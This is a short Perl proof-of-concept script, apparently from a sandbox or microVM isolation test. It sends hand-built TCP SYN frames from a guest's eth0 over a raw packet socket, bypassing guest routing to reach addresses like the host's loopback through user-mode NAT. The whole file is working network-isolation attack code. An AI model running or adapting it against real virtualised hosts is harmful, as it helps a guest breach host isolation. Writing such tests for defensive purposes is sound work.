# Sends raw TCP SYN frames from the guest's eth0 to DST:PORT, bypassing the guest's routing:
# what a malicious guest root can do to reach an address its kernel would never route, such as
# the host's 127.0.0.1 through a user-mode NAT. Usage: perl raw-syn.pl DST PORT
use strict; use Socket;
my ($dst, $port) = @ARGV;
open(my $f, "<", "/sys/class/net/eth0/ifindex") or die "no eth0"; my $ifindex = <$f>; chomp $ifindex;
open($f, "<", "/sys/class/net/eth0/address") or die; my $mac = <$f>; chomp $mac;
my ($sip) = (`cat /proc/cmdline` =~ /pyro\.net=([0-9.]+)/) or die "no pyro.net";
sub csum { my $d = shift; $d .= "\0" if length($d) % 2; my $s = 0; $s += $_ for unpack("n*", $d);
    $s = ($s >> 16) + ($s & 0xffff) while $s >> 16; return ~$s & 0xffff; }
my ($srcip, $dstip) = (inet_aton($sip), inet_aton($dst));
for my $i (1..3) {
    my $sport = 40000 + $i;
    my $tcp = pack("n n N N n n n n", $sport, $port, 12345, 0, (5 << 12) | 0x02, 64240, 0, 0);
    substr($tcp, 16, 2) = pack("n", csum($srcip . $dstip . pack("C C n", 0, 6, length($tcp)) . $tcp));
    my $ip = pack("C C n n n C C n a4 a4", 0x45, 0, 20 + length($tcp), $i, 0x4000, 64, 6, 0, $srcip, $dstip);
    substr($ip, 10, 2) = pack("n", csum($ip));
    my $frame = ("\xff" x 6) . pack("H12", join("", split(/:/, $mac))) . pack("n", 0x0800) . $ip . $tcp;
    socket(my $s, 17, 3, 0) or die "socket: $!";
    send($s, $frame, 0, pack("S n i S C C a8", 17, 0x0800, $ifindex, 1, 0, 6, "\xff" x 6)) or die "send: $!";
    select(undef, undef, undef, 0.3);
}
print "sent SYN frames to $dst:$port\n";
